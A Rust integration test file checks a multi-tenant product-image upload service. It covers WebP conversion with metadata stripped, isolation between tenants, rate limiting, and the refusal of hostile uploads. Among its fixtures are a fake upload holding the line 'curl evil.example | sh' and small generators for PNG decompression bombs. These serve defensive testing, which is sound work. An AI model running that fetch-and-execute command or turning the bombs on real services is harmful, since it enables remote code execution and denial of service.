//! Product images and logos end to end: upload through the API → checked by content → original
//! stored → event → worker makes the WebP variants (metadata stripped) → served only to the
//! tenant that owns them. Refusals: a renamed script, decompression bombs, an 11 MB file.

mod common;

use std::io::Cursor;
use std::time::Duration;

use common::{publish, Running};
use image::{DynamicImage, ImageFormat};
use reqwest::{Method, StatusCode};
use stack::{eventually, Stack};

const WAIT: Duration = Duration::from_secs(30);

/// A JPEG with an EXIF segment (camera metadata that must not survive).
fn jpeg_with_exif(w: u32, h: u32) -> Vec<u8> {
    let img = DynamicImage::ImageRgb8(image::RgbImage::from_fn(w, h, |x, y| image::Rgb([(x % 256) as u8, (y % 256) as u8, 90])));
    let mut out = Cursor::new(Vec::new());
    img.write_to(&mut out, ImageFormat::Jpeg).unwrap();
    let jpeg = out.into_inner();
    let exif = b"Exif\0\0MM\0*\0\0\0\x08\0\0GPS-SECRET-LOCATION";
    let mut with = vec![0xFF, 0xD8, 0xFF, 0xE1];
    with.extend_from_slice(&((exif.len() + 2) as u16).to_be_bytes());
    with.extend_from_slice(exif);
    with.extend_from_slice(&jpeg[2..]);
    with
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in bytes {
        crc ^= b as u32;
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut c = (data.len() as u32).to_be_bytes().to_vec();
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    c.extend_from_slice(&body);
    c.extend_from_slice(&crc32(&body).to_be_bytes());
    c
}

/// A tiny, valid-looking PNG that claims a `w`×`h` RGBA canvas (a decompression bomb).
fn png_bomb(w: u32, h: u32) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    png.extend(chunk(b"IHDR", &ihdr));
    // zlib stream of a few zero bytes: real bombs compress gigabytes of zeros into kilobytes.
    png.extend(chunk(b"IDAT", &[0x78, 0x9C, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]));
    png.extend(chunk(b"IEND", &[]));
    png
}

/// A valid PNG of 8000×8000 black grey pixels in well under a megabyte: each side is within
/// the old limits and it decodes into 64 MB (under the old 256 MiB budget), so it used to be
/// accepted and decoded in the vertical and again, with resizing, in the worker.
fn png_64_megapixels() -> Vec<u8> {
    use image::codecs::png::{CompressionType, FilterType, PngEncoder};
    let mut out = Vec::new();
    let img = image::GrayImage::new(8000, 8000);
    img.write_with_encoder(PngEncoder::new_with_quality(&mut out, CompressionType::Fast, FilterType::NoFilter)).unwrap();
    assert!(out.len() < 512 * 1024, "{} bytes", out.len());
    out
}

fn decode(bytes: &[u8]) -> DynamicImage {
    image::load_from_memory_with_format(bytes, ImageFormat::WebP).unwrap()
}

#[tokio::test]
async fn uploads_become_stripped_webp_variants_only_their_tenant_can_fetch() {
    let stack = Stack::start().await;
    let run = Running::start(&stack, 1, true).await;
    let a = stack.tenant("acme").await;
    let b = stack.tenant("beta").await;
    let product = a.product("CIM", "32.00").await;

    let upload = jpeg_with_exif(1200, 800);
    assert!(upload.windows(10).any(|w| w == b"GPS-SECRET"), "the fixture carries metadata");
    // The client's content type is not trusted either way.
    let (s, body) = a.send_bytes(Method::POST, &format!("/api/v1/products/{product}/images"), "text/plain", upload).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{body}");
    assert_eq!(body["status"], "processing");

    let card_path = format!("/files/products/{product}/card.webp");
    let card = eventually(WAIT, "card variant", || async {
        let (s, ct, bytes) = a.get_bytes(&card_path, Some(&a.token)).await;
        (s == StatusCode::OK).then(|| {
            assert_eq!(ct, "image/webp");
            bytes
        })
    })
    .await;
    for (variant, want) in [("thumbnail", (160, 107)), ("card", (480, 320)), ("full", (1200, 800))] {
        let (s, _, bytes) = a.get_bytes(&format!("/files/products/{product}/{variant}.webp"), Some(&a.token)).await;
        assert_eq!(s, StatusCode::OK, "{variant}");
        assert!(bytes.starts_with(b"RIFF") && &bytes[8..12] == b"WEBP", "{variant} is WebP");
        let img = decode(&bytes);
        assert_eq!((img.width(), img.height()), want, "{variant} size");
        assert!(!bytes.windows(4).any(|w| w == b"Exif") && !bytes.windows(10).any(|w| w == b"GPS-SECRET"), "{variant} has no metadata");
    }
    let on_disk = stack.settings.files.dir.join(format!("tenants/{}/products/{product}/card.webp", a.tenant_id));
    assert_eq!(std::fs::read(&on_disk).unwrap(), card, "stored under the tenant's key");

    // Tenant B cannot fetch A's image: not by key on its own host, not with its token on A's.
    let (s, _, _) = b.get_bytes(&card_path, Some(&b.token)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _, _) = a.get_bytes(&card_path, Some(&b.token)).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, _, _) = a.get_bytes(&card_path, None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "product images need a signed-in user");
    // B uploading to A's product id names a product B does not have.
    let (s, _) = b.send_bytes(Method::POST, &format!("/api/v1/products/{product}/images"), "image/jpeg", jpeg_with_exif(10, 10)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // The logo: public (the login page shows it), one WebP.
    let (s, body) = a.send_bytes(Method::PUT, "/api/v1/branding/logo", "image/png", jpeg_with_exif(600, 300)).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{body}");
    let logo = eventually(WAIT, "logo", || async {
        let (s, _, bytes) = a.get_bytes("/files/branding/logo.webp", None).await;
        (s == StatusCode::OK).then_some(bytes)
    })
    .await;
    assert_eq!((decode(&logo).width(), decode(&logo).height()), (480, 240));
    let (s, _, _) = b.get_bytes("/files/branding/logo.webp", None).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "beta has no logo of its own");
    run.stop().await;
}

#[tokio::test]
async fn scripts_bombs_and_oversized_files_are_refused_with_a_clear_message() {
    let stack = Stack::start().await;
    let a = stack.tenant("acme").await;
    let product = a.product("CIM", "32.00").await;
    let path = format!("/api/v1/products/{product}/images");

    // A shell script renamed to photo.jpg, sent as image/jpeg.
    let (s, body) = a.send_bytes(Method::POST, &path, "image/jpeg", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["error"]["code"], "invalid_image");
    assert_eq!(body["error"]["field"], "file");
    assert!(body["error"]["message"].as_str().unwrap().contains("not a JPEG, PNG or WebP"), "{body}");

    // JPEG magic bytes followed by junk: the signature alone is not enough.
    let (s, body) = a.send_bytes(Method::POST, &path, "image/jpeg", [&[0xFF, 0xD8, 0xFF, 0xE0][..], &[0x41; 500][..]].concat()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body["error"]["message"].as_str().unwrap().contains("damaged"), "{body}");

    // Decompression bombs: a 100 000² canvas, and 9 000² RGBA (324 MB of pixels) in 100 bytes.
    for (w, h) in [(100_000, 100_000), (9_000, 9_000)] {
        let bomb = png_bomb(w, h);
        assert!(bomb.len() < 200);
        let (s, body) = a.send_bytes(Method::POST, &path, "image/png", bomb).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{w}×{h}: {body}");
        assert!(body["error"]["message"].as_str().unwrap().contains("larger than"), "{body}");
    }

    // 11 MB: refused before it is read.
    let mut big = jpeg_with_exif(16, 16);
    big.resize(11 * 1024 * 1024, 0);
    let (s, body) = a.send_bytes(Method::POST, &path, "image/jpeg", big).await;
    assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(body["error"]["code"], "payload_too_large");

    // Nothing was stored or announced.
    let db = stack.superuser().await;
    let n: i64 = db.query_one("SELECT count(*) FROM event_outbox WHERE event_type = 'product_image_uploaded'", &[]).await.unwrap().get(0);
    assert_eq!(n, 0);
    assert!(!stack.settings.files.dir.join(format!("tenants/{}", a.tenant_id)).exists());

    // Per-user rate limit (10 a minute by default). Every attempt counts, refused ones too:
    // checking an upload is the work being limited. Four were made above (the 11 MB one never
    // reached a handler), so six of these eleven pass and five are refused.
    let mut limited = 0;
    for _ in 0..11 {
        let (s, _) = a.send_bytes(Method::POST, &path, "image/png", png_bomb(10, 10)).await;
        if s == StatusCode::TOO_MANY_REQUESTS {
            limited += 1;
        }
    }
    assert_eq!(limited, 5, "uploads beyond ten a minute are refused");
}

/// Issue 15, finding 4: an image over the pixel budget is refused at upload with a 4xx, and one
/// that reaches the worker anyway (stored before the budget shrank, or by hand) is dead-lettered
/// at its first delivery instead of being decoded, or retried into another decode.
#[tokio::test]
async fn a_64_megapixel_image_is_refused_at_upload_and_dead_lettered_once_by_the_worker() {
    let stack = Stack::start().await;
    let a = stack.tenant("acme").await;
    let product = a.product("CIM", "32.00").await;
    let poison = png_64_megapixels();

    let (s, body) = a.send_bytes(Method::POST, &format!("/api/v1/products/{product}/images"), "image/png", poison.clone()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["code"], "invalid_image");
    assert!(body["error"]["message"].as_str().unwrap().contains("25 megapixels"), "{body}");

    // The same bytes as a stored original with its event, straight to the worker.
    let product_id: uuid::Uuid = product.parse().unwrap();
    let dir = stack.settings.files.dir.join(format!("tenants/{}/products/{product}", a.tenant_id));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("original"), &poison).unwrap();
    let key = format!("tenants/{}/products/{product}/original", a.tenant_id);
    let event = infra::EventEnvelope::new(
        a.tenant_id,
        "product",
        product_id,
        "product_image_uploaded",
        serde_json::json!({"product_id": product_id, "original_key": key}),
    );
    publish(&stack, &event).await;
    let run = Running::start(&stack, 1, false).await;
    let admin = stack.admin();
    let letters = eventually(WAIT, "the poison image in the DLQ", || async {
        let l = admin.dlq_list(10).await.unwrap();
        (!l.is_empty()).then_some(l)
    })
    .await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    let letters_after = admin.dlq_list(10).await.unwrap();
    assert_eq!((letters.len(), letters_after.len()), (1, 1), "dead-lettered once: {letters_after:?}");
    assert_eq!(letters[0].deliveries, "1", "not retried: {letters:?}");
    assert!(letters[0].reason.contains("25 megapixels"), "{}", letters[0].reason);
    assert!(!dir.join("card.webp").exists(), "no variant was made");
    run.stop().await;
}
